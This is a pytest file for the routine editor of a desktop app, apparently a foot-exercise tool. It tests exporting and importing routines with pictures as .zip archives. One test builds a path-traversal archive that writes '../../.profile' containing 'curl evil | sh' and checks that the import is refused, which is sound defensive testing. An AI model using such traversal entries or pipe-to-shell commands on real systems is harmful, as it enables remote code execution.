"""Your routines' Export… and Import… with pictures: a routine with pictures is
offered as a .zip, the open dialog lists archives, and the archive the editor
writes is the one it reads back in a fresh home, each picture byte for byte."""

from __future__ import annotations

import zipfile

import pytest
from PySide6.QtWidgets import QApplication

from footdesk import paths
from footdesk.ui.routine_editor import RoutineEditor
from tests.test_archive import pictures, routine_text
from tests.test_library_pictures import shared_routine
from tests.ui.test_routine_editor import FakeFiles, click, pick


@pytest.fixture
def files() -> FakeFiles:
    return FakeFiles(filters=True)


def editor_of(qtbot, app, files: FakeFiles) -> RoutineEditor:
    editor = RoutineEditor(app.model, app.window, choose_file=files.choose_file,
                           choose_open_file=files.choose_open_file)  # fmt: skip
    editor.show()
    editor.activateWindow()
    qtbot.waitUntil(lambda: QApplication.activeWindow() is editor)
    return editor


def test_export_offers_a_zip_for_a_routine_with_pictures_and_import_reads_it_in_a_fresh_home(
    qtbot, app, files, tmp_path, monkeypatch, make_app
):
    app.model.shelf.import_file(shared_routine(tmp_path / "from-physio"))
    editor = editor_of(qtbot, app, files)
    pick(qtbot, editor, "Knee programme")
    archive = tmp_path / "to-share" / "knee.zip"
    archive.parent.mkdir()
    files.save_answer = str(archive)
    click(qtbot, editor.export_button)
    caption, suggested, file_filter = files.asked[-1]
    assert (caption, suggested) == ("Export routine", "knee.zip") and "*.zip" in file_filter
    assert f"to {archive} with 2 pictures" in editor.status.text()
    sent = {name: (paths.routines_dir() / name).read_bytes() for name in pictures()}
    with zipfile.ZipFile(archive) as written:
        assert written.namelist() == ["knee.toml", *pictures()]

    files.save_answer = str(tmp_path / "to-share" / "knee.toml")  # the person chose a plain file after all
    click(qtbot, editor.export_button)
    assert "without its 2 pictures (a .zip carries them)" in editor.status.text()
    assert (tmp_path / "to-share" / "knee.toml").read_text(encoding="utf-8") == routine_text()

    pick(qtbot, editor, "Strong feet")  # the built-in routine: an archive once it ships pictures
    files.save_answer = ""
    click(qtbot, editor.export_button)
    suffix = ".zip" if app.model.library.builtin.picture_names else ".toml"
    assert files.asked[-1][1] == f"foot-strength{suffix}"

    for name in ("XDG_CONFIG_HOME", "XDG_DATA_HOME", "XDG_STATE_HOME", "XDG_CACHE_HOME"):
        fresh = tmp_path / "fresh" / name.lower()
        fresh.mkdir(parents=True, mode=0o700)
        monkeypatch.setenv(name, str(fresh))
    other = make_app()
    imported = editor_of(qtbot, other, files)
    files.open_answer = str(archive)
    click(qtbot, imported.import_button)
    assert "*.zip" in files.asked[-1][1]
    assert "Imported “Knee programme”" in imported.status.text()
    for name, data in sent.items():
        assert (paths.routines_dir() / name).read_bytes() == data
    assert imported.routine_list.currentItem().text() == "Knee programme"


def test_a_hostile_archive_is_refused_in_the_status_line_and_nothing_is_written(qtbot, app, files, tmp_path):
    archive = tmp_path / "evil.zip"
    with zipfile.ZipFile(archive, "w") as written:
        written.writestr("knee.toml", routine_text())
        for name, data in pictures().items():
            written.writestr(name, data)
        written.writestr("../../.profile", "curl evil | sh")
    editor = editor_of(qtbot, app, files)
    files.open_answer = str(archive)
    click(qtbot, editor.import_button)
    assert "Not imported:" in editor.status.text() and "'../../.profile'" in editor.status.text()
    assert "climbs out" in editor.status.text()
    assert not paths.routines_dir().exists() or not any(paths.routines_dir().iterdir())
